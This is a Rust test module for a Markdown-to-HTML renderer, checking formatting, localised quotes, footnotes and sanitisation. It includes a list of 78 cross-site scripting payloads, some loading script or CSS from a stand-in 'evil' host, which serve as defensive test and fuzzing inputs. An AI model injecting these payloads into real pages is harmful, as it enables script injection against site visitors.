use std::collections::BTreeSet;

use ammonia::{Builder, UrlRelative};
use proptest::prelude::*;

use super::*;
use crate::diag::Bag;
use crate::locale::LangTag;
use crate::span::FileId;

struct Site;

impl Resolver for Site {
    fn link(&self, target: &LinkTarget, _raw: &str) -> Option<ResolvedLink> {
        let href = match target {
            LinkTarget::Relative { path, .. } => path.strip_suffix(".md").map(|p| format!("{p}/"))?,
            other => other.href()?,
        };
        let external = matches!(target, LinkTarget::External(_));
        let lang = href.contains("gelang").then(|| "en".to_owned());
        Some(ResolvedLink { href, lang, external })
    }

    fn image(&self, target: &str, alt: &str, _title: &str) -> Option<String> {
        let mut html = format!(
            "<img src=\"{}\"",
            target.strip_suffix(".jpg")?.replace(['"', '<', '>', '&'], "")
        );
        escape::attribute(&mut html, "alt", alt);
        html.push('>');
        Some(html)
    }
}

struct Id;

impl Words for Id {
    fn table(&self, number: usize) -> String {
        format!("Tabel \"{number}\"")
    }
    fn footnotes(&self) -> String {
        "Catatan kaki".to_owned()
    }
    fn footnote(&self, number: usize) -> String {
        format!("Catatan {number}")
    }
    fn footnote_back(&self, number: usize, nth: usize) -> String {
        format!("Kembali {number}.{nth}")
    }
    fn task(&self, done: bool) -> String {
        if done { "selesai" } else { "belum" }.to_owned()
    }
}

const OPTIONS: RenderOptions<'_> = RenderOptions {
    id_prefix: "",
    first_heading: 2,
    words: &Id,
    quotes: Quotes {
        open: "“",
        close: "”",
        inner_open: "‘",
        inner_close: "’",
    },
};

fn html(text: &str) -> String {
    let document = Document::parse(text, FileId(0), 0, &mut Bag::new());
    render(&document, &Site, OPTIONS)
}

#[test]
fn paragraphs_and_marks() {
    assert_eq!(
        html("A *b* **c** ~~d~~ `e<` \\<f> \"g\"\nh  \ni\n\n---\n\n> j\n\n3. k\n4. l\n\n- m\n\n  n\n"),
        "<p>A <em>b</em> <strong>c</strong> <del>d</del> <code>e&lt;</code> &lt;f&gt; “g”\nh<br>\ni</p>\n<hr>\n\
         <blockquote>\n<p>j</p>\n</blockquote>\n<ol start=\"3\">\n<li>k</li>\n<li>l</li>\n</ol>\n\
         <ul>\n<li><p>m</p>\n<p>n</p>\n</li>\n</ul>\n"
    );
    assert_eq!(
        html("**마크다운(Markdown)**을"),
        "<p><strong>마크다운(Markdown)</strong>을</p>\n"
    );
}

#[test]
fn quotation_marks_are_those_of_the_language() {
    let in_language = |text: &str, tag: &str| {
        let document = Document::parse(text, FileId(0), 0, &mut Bag::new());
        let quotes = Quotes::of(&LangTag::parse(tag).unwrap());
        render(&document, &Site, RenderOptions { quotes, ..OPTIONS })
    };
    let text = "Kata \"perak 'murni'\" pada Jum'at -- 5...\n";
    assert_eq!(
        in_language(text, "id"),
        "<p>Kata “perak ‘murni’” pada Jum’at -- 5...</p>\n"
    );
    assert_eq!(
        in_language(text, "ja"),
        "<p>Kata 「perak 『murni』」 pada Jum’at -- 5...</p>\n"
    );
    assert_eq!(
        in_language(text, "de"),
        "<p>Kata „perak ‚murni‘“ pada Jum’at -- 5...</p>\n"
    );
    // Marks that were chosen, code, and attributes of raw HTML stay.
    for text in ["“a” ‘b’ „c“ &quot;d&quot;", "`\"a\"`", "<abbr title=\"a\">b</abbr>"] {
        let (id, ja) = (in_language(text, "id"), in_language(text, "ja"));
        assert_eq!(id, ja, "{text}");
        assert!(!ja.contains('「'), "{ja}");
    }
    // Beside Chinese, Japanese and Korean letters, where places in the text are counted anew.
    assert_eq!(
        in_language("**마크다운(Markdown)**을 \"은\"", "ja"),
        "<p><strong>마크다운(Markdown)</strong>을 「은」</p>\n"
    );
    // What only looks at the text sees it as it was written.
    let document = Document::parse("# \"A\"\n\n\"B\" -- c", FileId(0), 0, &mut Bag::new());
    assert_eq!(document.plain_text(), "\"A\"\n\"B\" -- c");
}

#[test]
fn headings_have_anchors_and_never_skip() {
    assert_eq!(
        html("# a\n\n### b *c*\n\n# Main\n"),
        "<h2 id=\"a\">a</h2>\n<h3 id=\"b-c\">b <em>c</em></h3>\n<h2 id=\"h-main\">Main</h2>\n"
    );
    let document = Document::parse("# a\n\n## b\n", FileId(0), 9, &mut Bag::new());
    let options = RenderOptions {
        first_heading: 1,
        ..OPTIONS
    };
    assert_eq!(
        render(&document, &Site, options),
        "<h1 id=\"a\">a</h1>\n<h2 id=\"b\">b</h2>\n"
    );
    let without = document.without_title_heading();
    assert_eq!(render(&without, &Site, OPTIONS), "<h2 id=\"b\">b</h2>\n");
    let deep = "# a\n## b\n### c\n#### d\n##### e\n###### f\n";
    assert!(html(deep).ends_with("<h6 id=\"e\">e</h6>\n<h6 id=\"f\">f</h6>\n"));
}

#[test]
fn links() {
    for (text, expected) in [
        ("[a](b.md 'c\"')", "<a href=\"b/\" title=\"c&quot;\">a</a>"),
        ("[a](gelang.md)", "<a href=\"gelang/\" hreflang=\"en\">a</a>"),
        ("[a](b.pdf)", "a"),
        ("[a](//b/c d)", "[a](//b/c d)"),
        (
            "[a](<//b/c d>)",
            "<a href=\"https://b/c%20d\" rel=\"noopener noreferrer\">a</a>",
        ),
        (
            "<https://b/é>",
            "<a href=\"https://b/%C3%A9\" rel=\"noopener noreferrer\">https://b/é</a>",
        ),
        ("<a@b.id>", "<a href=\"mailto:a@b.id\">a@b.id</a>"),
        ("[a](tel:+62361)", "<a href=\"tel:+62361\">a</a>"),
        ("[a](#b)", "<a href=\"#b\">a</a>"),
        ("[a](javascript:b)", "a"),
        ("[a *b*](data:b)", "a <em>b</em>"),
    ] {
        assert_eq!(html(text), format!("<p>{expected}</p>\n"), "{text}");
    }
}

#[test]
fn a_resolver_cannot_let_an_unsafe_address_through() {
    struct Careless;
    impl Resolver for Careless {
        fn link(&self, _: &LinkTarget, _: &str) -> Option<ResolvedLink> {
            Some(ResolvedLink {
                href: "java\nscript:x".to_owned(),
                ..ResolvedLink::default()
            })
        }
        fn image(&self, _: &str, _: &str, _: &str) -> Option<String> {
            Some("<img>".to_owned())
        }
    }
    let document = Document::parse("[a](b) ![c](data:d)", FileId(0), 0, &mut Bag::new());
    assert_eq!(render(&document, &Careless, OPTIONS), "<p>a c</p>\n");
}

#[test]
fn pictures() {
    for (text, expected) in [
        ("![a *b*](c.jpg)", "<figure><img src=\"c\" alt=\"a b\"></figure>\n"),
        (
            "![a](c.jpg 'd<')",
            "<figure><img src=\"c\" alt=\"a\"><figcaption>d&lt;</figcaption></figure>\n",
        ),
        ("![a](c.jpg) e", "<p><img src=\"c\" alt=\"a\"> e</p>\n"),
        (
            "[![a](c.jpg)](b.md)",
            "<p><a href=\"b/\"><img src=\"c\" alt=\"a\"></a></p>\n",
        ),
        ("![a](c.tiff)", "<p>a</p>\n"),
        ("![](c.tiff)", ""),
        ("x ![a](c.tiff)", "<p>x a</p>\n"),
        ("![a](javascript:c.jpg)", "<p>a</p>\n"),
    ] {
        assert_eq!(html(text), expected, "{text}");
        // With raw HTML on the page, pictures pass around the second gate.
        let with_html = html(&format!("<b>x</b>\n\n{text}"));
        assert_eq!(with_html, format!("<p><b>x</b></p>\n{expected}"), "{text}");
    }
}

#[test]
fn tables() {
    assert_eq!(
        html("|a|b||\n|:-|:-:|-:|\n|c *d*|e|f|\n|g|h|i|\n"),
        "<div class=\"table\" role=\"region\" tabindex=\"0\" aria-label=\"Tabel &quot;1&quot;\">\n<table>\n\
         <thead><tr><th class=\"align-left\" scope=\"col\">a</th><th class=\"align-center\" scope=\"col\">b</th>\
         <td class=\"align-right\"></td></tr></thead>\n<tbody>\n\
         <tr><td class=\"align-left\">c <em>d</em></td><td class=\"align-center\">e</td><td class=\"align-right\">f</td></tr>\n\
         <tr><td class=\"align-left\">g</td><td class=\"align-center\">h</td><td class=\"align-right\">i</td></tr>\n\
         </tbody>\n</table>\n</div>\n"
    );
    let two = html("|a|\n|-|\n\ntext\n\n|b|\n|-|\n");
    assert!(two.contains("Tabel &quot;2&quot;") && !two.contains("tbody"), "{two}");
}

#[test]
fn footnotes_lead_there_and_back() {
    let text =
        "A[^x] b[^Y] c[^x].\n\n[^y]: Two *z*\n[^x]: One[^w]\n\n    ```\n    code\n    ```\n[^w]: Three\n[^v]: Alone\n";
    let document = Document::parse(text, FileId(0), 0, &mut Bag::new());
    let out = render(
        &document,
        &Site,
        RenderOptions {
            id_prefix: "desa-",
            ..OPTIONS
        },
    );
    let reference = |n: usize, id: &str| {
        format!(
            "<sup class=\"footnote-ref\"><a href=\"#kampung-desa-fn-{n}\" id=\"kampung-desa-fnref-{id}\" \
             role=\"doc-noteref\" aria-label=\"Catatan {n}\">{n}</a></sup>"
        )
    };
    let back = |id: &str, label: &str| {
        format!(
            " <a href=\"#kampung-desa-fnref-{id}\" role=\"doc-backlink\" aria-label=\"Kembali {label}\">↩\u{fe0e}</a>"
        )
    };
    let expected = format!(
        "<p>A{} b{} c{}.</p>\n\
         <section class=\"footnotes\" role=\"doc-endnotes\" aria-label=\"Catatan kaki\">\n<ol>\n\
         <li id=\"kampung-desa-fn-1\"><p>One{}</p>\n<pre><code>code\n</code></pre>\n{}{}</li>\n\
         <li id=\"kampung-desa-fn-2\"><p>Two <em>z</em>{}</p>\n</li>\n\
         <li id=\"kampung-desa-fn-3\"><p>Three{}</p>\n</li>\n\
         <li id=\"kampung-desa-fn-4\"><p>Alone</p>\n</li>\n</ol>\n</section>\n",
        reference(1, "1"),
        reference(2, "2"),
        reference(1, "1-2"),
        reference(3, "3"),
        back("1", "1.1"),
        back("1-2", "1.2"),
        back("2", "2.1"),
        back("3", "3.1"),
    );
    assert_eq!(out, expected);
}

#[test]
fn tasks_and_code() {
    assert_eq!(
        html("- [x] a\n- [ ] b\n"),
        "<ul>\n<li class=\"task\"><input type=\"checkbox\" disabled=\"\" checked=\"\" aria-label=\"selesai\"> a</li>\n\
         <li class=\"task\"><input type=\"checkbox\" disabled=\"\" aria-label=\"belum\"> b</li>\n</ul>\n"
    );
    assert!(html("- [x] a\n\n- [ ] b\n").contains("<li class=\"task\"><p><input"));
    assert_eq!(
        html("```c++ {x} \"y\n<a>\n```\n"),
        "<pre><code class=\"language-c++\">&lt;a&gt;\n</code></pre>\n"
    );
    assert_eq!(
        html("```a\"><b>\nx\n```\n"),
        "<pre><code class=\"language-ab\">x\n</code></pre>\n"
    );
    assert_eq!(html("    x\n"), "<pre><code>x\n</code></pre>\n");
}

#[test]
fn allowed_html_works_together_with_markdown() {
    for (text, expected) in [
        (
            "a <u>b *c*</u> H<sub>2</sub>O",
            "<p>a <u>b <em>c</em></u> H<sub>2</sub>O</p>\n",
        ),
        ("a<br>b<br/>c", "<p>a<br>b<br>c</p>\n"),
        (
            "<details>\n<summary>Ukuran & <b>berat</b></summary>\n\n- **a**\n\n</details>\n",
            "<details>\n<summary>Ukuran &amp; <b>berat</b></summary>\n<ul>\n<li><strong>a</strong></li>\n</ul>\n</details>\n",
        ),
        (
            "<span lang=\"ja\" dir='ltr'>銀</span>",
            "<p><span lang=\"ja\" dir=\"ltr\">銀</span></p>\n",
        ),
        (
            "<ruby>銀<rp>(</rp><rt>ぎん</rt><rp>)</rp></ruby>",
            "<p><ruby>銀<rp>(</rp><rt>ぎん</rt><rp>)</rp></ruby></p>\n",
        ),
        (
            "<abbr title='a &amp; \"b\"'>x</abbr>",
            "<p><abbr title=\"a &amp; &quot;b&quot;\">x</abbr></p>\n",
        ),
        (
            "<a href='b.md' title=t>c</a>",
            "<p><a href=\"b/\" title=\"t\">c</a></p>\n",
        ),
        (
            "<a href='//x/y'>c</a>",
            "<p><a href=\"https://x/y\" rel=\"noopener noreferrer\">c</a></p>\n",
        ),
        ("<a href='b.pdf'>c</a> d", "<p>c d</p>\n"),
        (
            "<table>\n<tr><td colspan=2>a<td>b\n</table>\n",
            "<table>\n<tbody><tr><td colspan=\"2\">a</td><td>b\n</td></tr></tbody></table>\n",
        ),
    ] {
        assert_eq!(html(text), expected, "{text}");
    }
}

#[test]
fn html_that_is_left_open_ends_with_its_block() {
    for (text, expected) in [
        ("a <b>b\n\nc", "<p>a <b>b</b></p>\n<p>c</p>\n"),
        ("*a <b>b* c</b>", "<p><em>a <b>b</b></em> c</p>\n"),
        ("a</div></p></section> b", "<p>a b</p>\n"),
        ("- a</li></ul>\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("<div>\n\na\n", "<div>\n<p>a</p>\n</div>"),
        ("a <div>b</div> c", "<p>a </p><div>b</div> c\n"),
        ("> <div>\n\na\n", "<blockquote>\n<div>\n</div></blockquote>\n<p>a</p>\n"),
    ] {
        assert_eq!(html(text), expected, "{text}");
    }
    // A table's own wrapper cannot be closed from within.
    let table = html("|a|\n|-|\n|</div></table>b|\n\nc");
    assert!(
        table.ends_with("<td>b</td></tr>\n</tbody>\n</table>\n</div>\n<p>c</p>\n"),
        "{table}"
    );
}

#[test]
fn programs_are_left_out_with_their_text() {
    for (text, expected) in [
        ("a <script>alert(*1*)</script> b", "<p>a  b</p>\n"),
        ("a <script>alert(1)\n\nb", "<p>a </p>\n<p>b</p>\n"),
        ("*a <style>b* c</style> d", "<p><em>a </em> c d</p>\n"),
        ("<script>\nalert(1)\n\nx\n</script>\n\nb", "\n<p>b</p>\n"),
        ("<textarea>\na\n\nb\n", ""),
        ("a <iframe src=x>b ![c](d.jpg)</iframe>", "<p>a </p>\n"),
    ] {
        assert_eq!(html(text), expected, "{text}");
    }
}

/// Ways in which pages have been attacked.
const ATTACKS: [&str; 78] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil/x.js></SCRIPT>",
    "<script/src=//evil>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\">x</a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<body onload=alert(1)>",
    "<html onclick=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<applet code=x>",
    "<form action=\"javascript:alert(1)\"><input type=submit></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<video src=x onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style>@import 'https://evil/x.css';</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<p style=\"position:fixed;inset:0\">x</p>",
    "<div class=evil id=main>x</div>",
    "<span id=\"kampung-menu\" class='table'>x</span>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java&#x0A;script:alert(1)\">x</a>",
    "<a href=\"java&Tab;script:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"&#106;&#97;vascript:alert(1)\">x</a>",
    "<a href=\"&#0000106avascript:alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61vascript:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=\"https://x\" onclick=\"alert(1)\" target=_blank>x</a>",
    "<a href=\"https://x\" style=\"x\" class=y id=z ping=//evil>x</a>",
    "<a title=\"</a><script>alert(1)</script>\" href=https://x>x</a>",
    "<abbr title='\"><img src=x onerror=alert(1)>'>x</abbr>",
    "<bdo dir=\"ltr onclick=alert(1)\">x</bdo>",
    "<span lang='x\" onclick=\"alert(1)'>x</span>",
    "<td colspan='1\" onclick=\"alert(1)'>x",
    "<b <script>alert(1)</script>0",
    "<b/onclick=alert(1)>x</b>",
    "<a\u{b}href=javascript:alert(1)>x</a>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<title><a id=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<template><script>alert(1)</script></template>",
    "[x](javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "![x](javascript:alert(1) \"onerror=alert(1)\")",
    "[x]: javascript&colon;alert(1)\n\n[x] ![\" onerror=alert(1)](x\".jpg)",
];

/// All that a body may hold; ids and classes by exact names.
fn everything_allowed() -> Builder<'static> {
    let mut builder = Builder::empty();
    builder
        .tags(
            "a abbr b bdi bdo blockquote br caption cite code dd del details dfn div dl dt em figcaption figure \
             h2 h3 h4 h5 h6 hr i img input ins kbd li mark ol p pre q rp rt ruby s samp section small span strong sub \
             summary sup table tbody td tfoot th thead tr u ul var wbr"
                .split_whitespace()
                .collect(),
        )
        .generic_attributes("lang dir title role tabindex aria-label".split(' ').collect())
        .add_tag_attributes("a", ["href", "hreflang", "rel"])
        .add_tag_attributes("img", ["src", "alt"])
        .add_tag_attributes("input", ["type", "disabled", "checked"])
        .add_tag_attributes("td", ["colspan", "rowspan"])
        .add_tag_attributes("th", ["colspan", "rowspan", "scope"])
        .add_tag_attributes("ol", ["start"])
        .add_tag_attributes("details", ["open"])
        .add_allowed_classes("div", ["table"])
        .add_allowed_classes("section", ["footnotes"])
        .add_allowed_classes("sup", ["footnote-ref"])
        .add_allowed_classes("li", ["task"])
        .add_allowed_classes("td", ["align-left", "align-center", "align-right"])
        .add_allowed_classes("th", ["align-left", "align-center", "align-right"])
        .add_tag_attributes("code", ["class"])
        .add_tag_attributes("h2", ["id"])
        .add_tag_attributes("h3", ["id"])
        .add_tag_attributes("h4", ["id"])
        .add_tag_attributes("h5", ["id"])
        .add_tag_attributes("h6", ["id"])
        .add_tag_attributes("a", ["id"])
        .add_tag_attributes("li", ["id"])
        .url_schemes(
            ["http", "https", "mailto", "tel", "sms", "geo", "whatsapp"]
                .into_iter()
                .collect(),
        )
        .url_relative(UrlRelative::PassThrough)
        .link_rel(None)
        .attribute_filter(|element, attribute, value| {
            let footnote = value.starts_with("kampung-fn");
            let own = match (element, attribute) {
                ("a" | "li", "id") => footnote,
                (_, "id") => !value.starts_with("kampung-") && value != "main",
                (_, "role") => matches!(value, "region" | "doc-noteref" | "doc-backlink" | "doc-endnotes"),
                ("input", "type") => value == "checkbox",
                ("code", "class") => value.starts_with("language-") && !value.contains(char::is_whitespace),
                _ => true,
            };
            own.then_some(value.into())
        });
    builder
}

/// A browser's reading of `out` holds nothing but what is allowed: taking away all else takes away nothing.
/// Where there is no raw HTML, the browser also sees the very tree that was written.
fn judge(text: &str, out: &str) -> Result<(), TestCaseError> {
    // How a browser would write down what it read: references where there is a choice.
    let canonical = |html: &str| html.replace("&nbsp;", "\u{a0}").replace('\r', "\n");
    let cleaned = everything_allowed().clean(out).to_string();
    let (cleaned, out) = (canonical(&cleaned), canonical(out));
    let tags = |html: &str| -> BTreeSet<String> {
        let ends = |tag: &str| tag.split('>').next().unwrap_or("").to_owned();
        html.split('<').skip(1).map(ends).collect()
    };
    prop_assert_eq!(tags(&cleaned), tags(&out), "\nsource: {:?}", text);
    if !Document::parse(text, FileId(0), 0, &mut Bag::new()).raw_html {
        prop_assert_eq!(&cleaned, &out, "\nsource: {:?}", text);
    }
    let lower = out.to_lowercase();
    for tag in [
        "<script", "<style", "<iframe", "<svg", "<math", "<object", "<form", "<base", "<meta", "<link",
    ] {
        prop_assert!(!lower.contains(tag), "{:?}: {}", text, out);
    }
    Ok(())
}

#[test]
fn attacks_fail_everywhere() {
    for attack in ATTACKS {
        for text in [
            attack.to_owned(),
            format!("a {attack} b"),
            format!("> - {attack}\n>   {attack}"),
            format!("<div>\n{attack}\n\n*x*\n</div>"),
            format!("# x {attack}\n"),
            format!("| a {attack} |\n|-|\n| {attack} |\n"),
            format!("a[^1]\n\n[^1]: {attack}"),
            format!("*a **b {attack}* c** <b>"),
            format!("![{attack}](x.jpg \"{attack}\")"),
        ] {
            let out = html(&text);
            if let Err(e) = judge(&text, &out) {
                panic!("{e}");
            }
        }
    }
}

#[test]
fn an_author_cannot_write_a_picture_of_ours() {
    let text = "kampung-picture-0123456789abcdef0123456789abcdef-0; <b>x</b> ![a](b.jpg)";
    assert!(html(text).starts_with("<p>kampung-picture-0123456789abcdef0123456789abcdef-0; <b>"));
}

#[test]
fn deep_nesting_is_no_danger() {
    for text in [
        "> ".repeat(3000) + "x",
        "- ".repeat(3000) + "x",
        "<div>".repeat(3000),
        "x <b>".repeat(3000) + &"</i>".repeat(3000),
        "![".repeat(3000) + &"](x.jpg)".repeat(3000),
        "**「a」**b".repeat(3000),
        "[^1]\n\n[^1]: ".repeat(300),
    ] {
        judge(&text, &html(&text)).unwrap();
    }
}

/// Pieces of Markdown and HTML in any order.
fn soup() -> impl Strategy<Value = String> {
    let piece = prop::sample::select(vec![
        "*",
        "**",
        "~~",
        "`",
        "[",
        "](x.md)",
        "](javascript:x)",
        "![",
        "](y.jpg)",
        "](y.jpg 't')",
        "\n",
        "\n\n",
        "> ",
        "- ",
        "1. ",
        "# ",
        "### ",
        "|",
        "\n|-|-|\n",
        "[^a]",
        "\n[^a]: ",
        "- [x] ",
        "<b>",
        "</b>",
        "<div>",
        "</div>",
        "<div>\n\n",
        "<a href='z.md'>",
        "<a href=javascript:x>",
        "</a>",
        "<p>",
        "</p>",
        "<table>",
        "<tr>",
        "<td>",
        "</table>",
        "<script>",
        "</script>",
        "<style>",
        "<svg>",
        "</svg>",
        "<math>",
        "<li>",
        "<ul>",
        "</ul>",
        "<br>",
        "<!--",
        "-->",
        "<img src=x onerror=y>",
        "<x y=\"",
        "\" onclick=z>",
        "'",
        "\"",
        "=",
        "style=x",
        "<",
        ">",
        "/",
        "&lt;",
        "&#60;script&#62;",
        "\\",
        "x",
        "é",
        "한",
        "」",
        "```a\n",
        "    ",
        "<pre>\n",
        "<textarea>",
        "<details open>",
        "<summary>",
        "\u{0}",
        "\u{c}",
        "\r",
        "<ruby>",
        "<rt>",
        "<h1>",
        "<input>",
        "<select>",
        "<q>",
        "<dd>",
        "<caption>",
    ]);
    prop::collection::vec(piece, 0..20).prop_map(|pieces| pieces.concat())
}

proptest! {
    #[test]
    fn whatever_is_written_is_harmless(text in soup()) {
        judge(&text, &html(&text))?;
    }

    #[test]
    fn any_text_is_rendered(text in "\\PC{0,80}") {
        judge(&text, &html(&text))?;
    }
}
